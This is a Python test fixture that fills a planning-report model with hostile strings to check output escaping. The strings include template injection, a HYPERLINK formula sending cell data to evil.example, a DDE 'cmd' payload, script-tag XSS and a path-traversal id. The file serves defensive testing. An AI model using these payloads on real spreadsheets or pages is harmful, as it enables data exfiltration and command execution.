"""A plan whose every text means harm to some format; in each format it must come out as it is."""

from __future__ import annotations

import json
from functools import cache

import polars as pl

from support.judging import TODAY, observations
from tvplan_tui.domain.conclusion import Conclusion
from tvplan_tui.domain.indicator import Bound, Indicator, Kind, Plan, Sector
from tvplan_tui.domain.letterhead import Letterhead
from tvplan_tui.domain.override import Override
from tvplan_tui.domain.period import Period
from tvplan_tui.domain.status import Status
from tvplan_tui.domain.task import Task, TaskField, TaskNote, TaskState
from tvplan_tui.report.agenda import Agenda
from tvplan_tui.report.board import Book
from tvplan_tui.report.corrections import Correction
from tvplan_tui.report.document.compose import compose
from tvplan_tui.report.document.material import Material
from tvplan_tui.report.document.model import Report
from tvplan_tui.store.closing_log import Closing

NAME = '<b>A</b> & {{7*7}} {% raw %} {{ self }} "q"'
FORMULA = '=HYPERLINK("http://evil.example/?a="&A1,"bấm")'
UNIT = "{_{x}_} %_} $x$"
LONG = "dài <i> & " * 3200 + "hết"
OWNER = "@SUM(1+1)*cmd|' /C calc'!A0"
SECTOR = "+1+1 | [x](http://evil.example) `code` <script>alert(1)</script> www.evil.example"
CONTROL = "a\x00b\x1b[31mc\u202ed\ufffee"
CLEAN = "a\ufffdb\ufffd[31mc\ufffdd\ufffde"
SIGNER = "-2+3 <w:p/> ]]>"


def harm(where: str) -> str:
    """Return a text that says which field it was typed into, and means harm to every format."""
    return (
        f'{where} <b>&{{{{7*7}}}}{{% raw %}} =HYPERLINK("http://evil.example/{where}","x") [x](http://evil.example) |'
    )


WRITTEN = tuple(
    harm(where)
    for where in (
        *("field", "task", "task-office", "task-note", "waited-for", "concluded", "office", "reason", "judge"),
        *("what", "about", "before", "after", "corrector", "correction-note"),
    )
)
"""What people wrote beside the figures, as it must be read in every format that tells of it."""
CLOSER = harm("closer")
HEAD = tuple(harm(where) for where in ("superior", "place", "symbol"))

HOSTILE = (NAME, FORMULA, UNIT, LONG, OWNER, SECTOR, CLEAN)
"""As they must be read in every format."""


def hostile_plan() -> Plan:
    shared = {"sector": "S", "kind": Kind.FLOW, "bound": Bound.AT_LEAST, "target": 1000.0, "owner": OWNER}
    return Plan(
        id="../../etc/<x>",
        title=CONTROL,
        authority="UBND <u>&",
        year=2023,
        sectors=(Sector("S", SECTOR),),
        indicators=(
            Indicator(id="X", name=NAME, unit=UNIT, **shared),
            Indicator(id="Y", name=FORMULA, unit="tỷ đồng", **shared),
        ),
        letterhead=Letterhead(*HEAD, recipients=(NAME,), signing=("TM.",), signer=SIGNER),
    )


def hostile_agenda(plan: Plan) -> Agenda:
    """Return a blocked task that waits for another one."""
    field = TaskField("F", harm("field"))
    tasks = (
        Task("A", "F", harm("task"), office=harm("task-office"), indicators=("X",)),
        Task("B", "F", harm("waited-for")),
    )
    note = TaskNote("A", TaskState.BLOCKED, harm("task-note"), ("B",), at="2023-09-30T08:00:00+07:00", by=harm("by"))
    return Agenda.of(plan, (field,), tasks, (note,), TODAY)


@cache
def hostile_report() -> Report:
    rows = [
        {"indicator": one, "period": f"2023-{month:02}", "value": 1.0, "note": LONG if one == "X" else FORMULA}
        for one in ("X", "Y")
        for month in range(1, 10)
    ]
    figures: pl.DataFrame = observations(rows)
    september, plan = Period.parse("2023-09"), hostile_plan()
    given = Override("X", september, Status.ON_TRACK, harm("reason"), "2023-10-02T08:00:00+07:00", harm("judge"))
    book = Book(plan, figures, (), (given,))
    concluded = Conclusion("1/2023", "X", september, harm("concluded"), office=harm("office"))
    words = (harm(one) for one in ("what", "about", "before", "after"))
    by, note = harm("corrector"), harm("correction-note")
    return compose(
        Material(
            book.board(september, TODAY),
            concluded=(concluded,),
            agenda=hostile_agenda(plan),
            closing=Closing("2023-09", "0" * 64, at="2023-10-01T08:00:00+07:00", by=CLOSER),
            live=True,
            corrected=(Correction("figure", "X", *words, at="2023-10-05T08:00:00+07:00", by=by, note=note),),
        )
    )


def in_json(text: str) -> str:
    """Return a text as JSON holds it, without its quotation marks."""
    return json.dumps(text, ensure_ascii=False)[1:-1]
